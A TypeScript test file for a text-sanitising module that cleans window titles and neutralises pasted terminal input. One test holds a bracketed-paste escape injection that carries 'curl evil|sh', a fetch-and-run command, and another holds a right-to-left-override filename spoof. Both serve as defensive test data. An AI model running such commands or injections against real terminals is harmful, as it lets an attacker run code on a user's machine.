import assert from "node:assert/strict";
import { test } from "node:test";
import { cleanTitle, harmless, lines, runsAtOnce } from "./text.ts";

test("a title is one line without anything invisible", () => {
  assert.equal(cleanTitle("  root@lab:\n~ \t x "), "root@lab: ~ x");
  assert.equal(cleanTitle("safe\u202egnp.exe\u200b\u0007"), "safe gnp.exe");
  assert.equal(cleanTitle("\u0000\u001b"), "");
});

test("a long title is cut between characters", () => {
  assert.equal(cleanTitle("👩‍💻".repeat(2) + "a".repeat(80), 10).endsWith("…"), true);
  assert.equal([...cleanTitle("x".repeat(80), 10)].length, 10);
});

test("the lines of a paste don't depend on how they end", () => {
  assert.deepEqual(lines("a\r\nb\rc\n"), ["a", "b", "c"]);
  assert.deepEqual(lines("a"), ["a"]);
});

test("a paste can't end its own bracket", () => {
  assert.equal(harmless("ls\x1b[201~\rcurl evil|sh\r\x0f\x03\tx\n"), "ls[201~\rcurl evil|sh\r\tx\n");
});

test("a paste runs at once as soon as it holds a line end", () => {
  assert.equal(runsAtOnce("ls"), false);
  assert.equal(runsAtOnce("ls\n"), true);
  assert.equal(runsAtOnce("a\rb"), true);
});
